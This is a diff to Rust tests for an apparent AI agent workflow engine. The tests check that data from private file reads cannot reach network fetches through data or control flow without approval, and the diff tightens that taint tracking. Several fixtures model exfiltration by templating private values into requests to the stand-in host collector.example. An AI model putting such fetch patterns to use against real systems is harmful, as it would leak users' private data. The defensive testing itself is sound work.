@@ -88,13 +88,13 @@ fn what_a_person_typed_and_what_a_plan_says_leaves_without_a_question() {
         inputs: serde_json::from_value(json!({ "topic": "kayaks" })).unwrap(),
         ..plan(vec![
             read("a"),
-            transform("say", json!("{{inputs.topic}} and more"), &["a"]),
+            transform("say", json!("{{inputs.topic}} and more"), &[]),
             fetch("send", "https://collector.example/{{say}}", &["say"]),
         ])
     };
     let mut world = begun(plan.clone());
     world.runs("a", "read_file", json!("secret"));
-    assert!(starts(&world.sends("send", "c")), "it comes after a private node, but takes nothing of it");
+    assert!(starts(&world.sends("send", "c")), "it comes after no private node");
     let settings = RunSettings { private_inputs: vec!["topic".into()], ..open_settings() };
     let mut world = World::with(plan, settings);
     world.runs("a", "read_file", json!("secret"));
@@ -132,9 +132,9 @@ fn a_private_guard_route_or_list_makes_a_node_private() {
     };
     let (free, many) = ("a == a or true", list("[a]"));
     for (plan, send, asks) in
-        [(guarded(free), "send", true), (guarded("true"), "send", false), (routed, "send", true), (decided, "send", true)]
+        [(guarded(free), "send", true), (guarded("true"), "send", true), (routed, "send", true), (decided, "send", true)]
             .into_iter()
-            .chain([(many, "each[0]/send", true), (list("[1]"), "each[0]/send", false)])
+            .chain([(many, "each[0]/send", true), (list("[1]"), "each[0]/send", true)])
     {
         let mut world = begun(plan);
         world.runs("a", "read_file", json!("secret"));
@@ -214,6 +214,61 @@ fn a_yes_at_the_one_gate_holds_across_retries() {
     assert!(starts(&world.sends("send", "c2")), "{}", world.states());
 }
 
+/// Whether a node ran, and how it ended, tells of what decided it.
+#[test]
+fn control_flow_is_no_way_out_for_what_is_private() {
+    let code = |id: &str| node(id, NodeKind::Code(CodeNode { code: "throw 1".into(), sandbox: SandboxLimits::default() }), &["a"]);
+    let last = |deps: &[&str], join: Option<Join>| {
+        let mut last = fetch("send", "https://collector.example/", deps);
+        last.policy.join = join;
+        last
+    };
+    let mut guarded = transform("v", json!("1"), &["a"]);
+    guarded.policy.when = Some("'never' in a".into());
+    let read = |_| read("a");
+    let skipped = || plan(vec![read(0), guarded.clone()]);
+    let with = |plan: Plan, node: Node| Plan { nodes: plan.nodes.into_iter().chain([node]).collect(), ..plan };
+    let mut status = fetch("send", "https://collector.example/?{{nodes.v.status}}", &["v"]);
+    status.policy.join = Some(Join::Always);
+    let dead = Plan {
+        edges: vec![edge("a", "x", "a == 'never'")],
+        ..plan(vec![read(0), transform("x", json!(1), &[]), transform("y", json!(1), &["x"]), last(&["y"], Some(Join::Always))])
+    };
+    let mut either = node("m", NodeKind::Merge(MergeNode::default()), &["v", "other"]);
+    either.policy.join = Some(Join::Always);
+    let merged = with(with(with(skipped(), transform("other", json!(1), &[])), either), last(&["m"], None));
+    for (plan, fails) in [
+        (plan(vec![read(0), code("t"), last(&["t"], None)]), false),
+        (plan(vec![read(0), code("t"), last(&["t"], Some(Join::Always))]), true),
+        (with(skipped(), last(&["v"], Some(Join::Always))), false),
+        (with(skipped(), status), false),
+        (dead, false),
+        (merged, false),
+    ] {
+        let mut world = begun(plan);
+        world.runs("a", "read_file", json!("secret"));
+        if world.run.node(&"t".into()).is_some() {
+            if fails { drop(world.fail("t", ErrorKind::Permanent)) } else { drop(world.done("t", json!(1))) }
+        }
+        assert_eq!(world.state("send"), "running", "{}", world.states());
+        assert!(!starts(&world.sends("send", "c")), "{:?}", world.run.plan().unwrap());
+    }
+    let inner = Box::new(plan(vec![read(0), code("t")]));
+    let mut world = begun(plan(vec![node("p", NodeKind::Subplan(SubplanNode::Inline(inner)), &[]), last(&["p"], Some(Join::Always))]));
+    world.runs("p/a", "read_file", json!("secret"));
+    world.fail("p/t", ErrorKind::Permanent);
+    assert!(!starts(&world.sends("send", "c")), "{}", world.states());
+}
+
+#[test]
+fn a_command_with_network_always_asks_because_it_reads_this_computer_itself() {
+    let mut world = begun(plan(vec![tool("c", "save", json!({ "path": "x" }), &[])]));
+    let call = ToolCall { id: "1".into(), tool: "save".into(), args: json!({ "path": "x" }) };
+    let leaves = Some(Box::new(Outgoing { host: "*".into(), ..Outgoing::default() }));
+    let events = world.fact("c", WorkerFact::ToolAsked { call, verdict: Verdict::Allow, why: String::new(), leaves });
+    assert!(!starts(&events));
+}
+
 #[test]
 fn an_answer_that_was_owed_to_another_question_lets_nothing_out() {
     let mut world = begun(plan(vec![agent("a", &[])]));
@@ -252,18 +307,18 @@ fn planned(drawn: &[DrawnSource]) -> (Plan, BTreeMap<String, bool>) {
         let (mut node, is_private) = match work % 9 {
             0 => (tool(&id, "read_file", json!({ "path": "a" }), &deps), true),
             1 => (tool(&id, "calculator", json!({ "expression": "1" }), &deps), false),
-            2 => (transform(&id, json!({ "text": text }), &deps), reached),
+            2 => (transform(&id, json!({ "text": text }), &deps), false),
             3 => (transform(&id, json!("fixed"), &deps), false),
-            4 => (agent(&id, &deps), reached),
-            5 => (node(&id, NodeKind::Merge(MergeNode::default()), &deps), reached),
-            6 => (node(&id, NodeKind::Code(CodeNode { code: "return 1".into(), sandbox: SandboxLimits::default() }), &deps), reached),
+            4 => (agent(&id, &deps), false),
+            5 => (node(&id, NodeKind::Merge(MergeNode::default()), &deps), false),
+            6 => (node(&id, NodeKind::Code(CodeNode { code: "return 1".into(), sandbox: SandboxLimits::default() }), &deps), false),
             7 => (fetch(&id, "https://collector.example/", &deps), false),
-            _ => (fetch(&id, &format!("https://collector.example/{text}"), &deps), reached),
+            _ => (fetch(&id, &format!("https://collector.example/{text}"), &deps), false),
         };
         let guard = deps.first().filter(|_| *guarded);
         node.policy.when = guard.map(|dep| format!("{dep} == 1 or true"));
         node.policy.approve = (*asks && matches!(work % 9, 7 | 8)).then_some(Approve::Before);
-        private.insert(id, is_private || guard.is_some_and(|dep| private[*dep]));
+        private.insert(id, is_private || reached);
         nodes.push(node);
     }
     (plan(nodes), private)
